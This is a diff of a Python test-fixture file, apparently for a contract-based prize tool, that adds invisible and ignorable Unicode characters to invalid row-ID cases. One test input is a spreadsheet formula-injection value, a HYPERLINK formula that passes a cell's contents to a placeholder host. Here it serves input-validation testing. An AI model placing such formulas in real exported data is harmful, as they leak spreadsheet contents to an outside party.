@@ -276,8 +276,8 @@ def references() -> list:
         reference("public", CONTRACT_1, "prizes", "r1"),
         reference("testnet", CONTRACT_2, "prizes", "r1"),
         reference("testnet", CONTRACT_1, "prizes", "\u00e91"),
-        reference("testnet", CONTRACT_1, "prizes", "a b\tc\nd"),
-        reference("testnet", CONTRACT_1, "prizes", "\u00a0no ASCII blank\u00a0"),
+        reference("testnet", CONTRACT_1, "prizes", "a  b c/d"),
+        reference("testnet", CONTRACT_1, "prizes", "\u5c71\u7530\u3000\u592a\u90ce"),
         reference("testnet", CONTRACT_1, "prizes", '=HYPERLINK("http://x.example/?"&A1)'),
         reference("testnet", CONTRACT_1, "prizes", "\U0001f3c6 \ud55c\uae00 \u65e5\u672c"),
         reference("testnet", CONTRACT_1, "prizes", "i" * 256),
@@ -296,10 +296,9 @@ def row_ids() -> list:
         row("a b"),
         row("\u00e91"),
         row("e\u03011"),
-        row("\u00a0r1\u00a0"),
-        row("\u200br1"),
-        row("\ufeffr1"),
-        row("\x0br1\x0b"),
+        row("\u5c71\u7530\u3000\u592a\u90ce"),
+        # Neighbours of what nobody sees.
+        row("\u00ac\u00ae\u0350\u2010\u2027\u2030\u205e\u2070\u3001\u3165\ufe10\uff01\ufffd\U0001d172\U0001d17b"),
         row("\u212b"),
         row("\u1112\u1161\u11ab"),
         row("q\u0307\u0323"),
@@ -308,6 +307,13 @@ def row_ids() -> list:
         row("\u0958"),
         row("i" * 254 + "e\u0301"),
     ]
+
+
+# From each kind of character that nobody sees: control characters, white space that is no plain blank, and
+# both ends of every range that Unicode calls Default_Ignorable_Code_Point, for which Python has no table.
+UNSEEN = "\0\x07\x1b\x7f\x85\x9f\u00a0\u1680\u2000\u200a\u2028\u2029\u202f\u205f\u2800"
+UNSEEN += "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b\u180f\u200b\u200f\u202a\u202e\u2060\u206f\u3164"
+UNSEEN += "\ufe00\ufe0f\ufeff\uffa0\ufff0\ufffb\U0001bca0\U0001bca3\U0001d173\U0001d17a\U000e0000\U000e0fff"
 
 
 def run_names() -> list:
@@ -336,6 +342,8 @@ def invalid() -> dict:
         + rows("start", "-a", ".", "..", ".a", "_a", "--run"),
         "row_ids": rows("length", "", "i" * 257, "\u00e9" * 129)
         + rows("blank", " ", " a", "a ", "\ta", "a\n", "a\r", "\x0ca")
+        + rows("unseen", *(before + unseen + after for unseen in UNSEEN for before, after in [("r", "1"), ("r1", "")]))
+        + rows("unseen", "\u3000r1", "r1\u3000")
         + rows("not_normalised", "e\u0301", "\u212b", "\u1112\u1161\u11ab", "q\u0307\u0323", "\u0958"),
         "recipients": rows("muxed", muxed, "MAZJYCGITLBAV5UPJUQ4QIHNFIILZ2763CO55DITR4O2KS77DBYM6AAAAAAAAAAAA6MCY")
         + rows("secret", seed, seed[:-1], f" {seed}", seed[:-1] + ("A" if seed[-1] != "A" else "B"))
